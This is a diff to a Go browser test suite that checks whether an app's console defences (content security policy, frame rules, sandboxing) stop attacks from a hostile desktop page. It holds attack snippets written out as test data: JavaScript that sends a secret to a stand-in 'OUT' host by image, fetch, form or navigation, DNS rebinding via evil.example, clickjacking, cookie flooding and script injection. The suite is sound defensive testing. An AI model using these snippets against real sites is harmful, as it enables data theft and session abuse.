@@ -16,7 +16,8 @@ import (
 )
 
 // browserRows are what only a real browser shows: whether it does what an answer
-// of ours tells it. The control plane is the real one; the computer is played.
+// of ours tells it. The control plane is the real one; the computer is played,
+// for it has to be worse than one that runs can be made to be, or says nothing.
 var browserRows = []Row{
 	withBrowser(20, "somebody's DNS points their name at our port (rebinding)", func(t *testing.T, v *visitor) Verdict {
 		v.open(t, fmt.Sprintf("http://evil.example:%d/claim", v.port))
@@ -56,17 +57,11 @@ var browserRows = []Row{
 	withBrowser(28, "a desktop's page lays the console unseen under the user's clicks, and has a host allowed", clickJacked,
 		defence.ControlPolicy, defence.ControlAncestors, defence.ControlFrameOptions),
 
-	withBrowser(22, "a desktop's page sends data out with an image", leaves(`const i = new Image(); i.onload = i.onerror = () => said('refused'); i.src = 'OUT/secret'`, nil), defence.ControlPolicy),
-	withBrowser(22, "a desktop's page sends data out with a request", leaves(`fetch('OUT/secret', {mode: 'no-cors'}).then(() => said('sent'), () => said('refused'))`, nil), defence.ControlPolicy),
 	withBrowser(22, "a desktop's page sends data out with a form", leaves(
 		`addEventListener('securitypolicyviolation', () => said('refused')); const f = document.createElement('form'); f.action = 'OUT/secret'; f.method = 'post'; document.body.append(f); f.submit()`, nil),
 		defence.ControlPolicy, defence.ControlFrames),
 	withBrowser(22, "a desktop's page leaves with data in the address it goes to", leaves(`location.href = 'OUT/secret'`, nil), defence.ControlFrames),
 	withBrowser(22, "a desktop's page opens a window elsewhere, in a frame that forgot to say that it may not", popup, defence.ControlSandbox),
-	withBrowser(22, "a desktop's page keeps a service worker, to outlive a rewind", func(t *testing.T, v *visitor) Verdict {
-		got := v.desktopRuns(t, `navigator.serviceWorker.register('/src/worker.js').then(() => said('registered'), () => said('refused'))`, nil, "")
-		return Verdict{got == "registered", got}
-	}, defence.ControlWorkers),
 	withBrowser(22, "a desktop's page sends the console so many cookies, for a year, that it answers nothing any more", func(t *testing.T, v *visitor) Verdict {
 		// It is kept out as well, so it tells the console's page when it is done.
 		v.desktopRuns(t, `for (let i = 0; i < 170; i++) document.cookie = 'c' + i + '=' + 'A'.repeat(4000) + '; Domain=choir.localhost; Max-Age=31536000; Path=' + (i % 3 ? '/' : '/api')
@@ -84,11 +79,6 @@ var browserRows = []Row{
 		`const s = document.createElement('script'); s.onload = s.onerror = () => said('refused'); s.src = '/src/away.js'; document.head.append(s)`,
 		map[string]served{"/src/away.js": {http.StatusFound, http.Header{"Location": {"OUT/secret"}}, ""}}),
 		defence.ControlPolicy, defence.ControlRedirects, defence.ControlHeaders, defence.BoxHeadersApart),
-	withBrowser(25, "what a document holds runs as a script of the desktop", func(t *testing.T, v *visitor) Verdict {
-		got := v.desktopRuns(t, `window.stolen = () => said('ran'); addEventListener('securitypolicyviolation', () => said('refused'))
-			document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="stolen()">')`, nil, "")
-		return Verdict{got == "ran", got}
-	}, defence.ControlPolicy),
 	withBrowser(44, "a 103 of the dev server wipes the policy of a worker's script, which then sends data out", func(t *testing.T, v *visitor) Verdict {
 		v.mine.early = textproto.MIMEHeader{"Link": {"<" + v.outside.url + "/preload>; rel=preload; as=script"}}
 		got := v.desktopRuns(t, `const w = new Worker('/src/worker.js'); w.onmessage = (e) => said(e.data); w.onerror = () => said('failed')`, map[string]served{
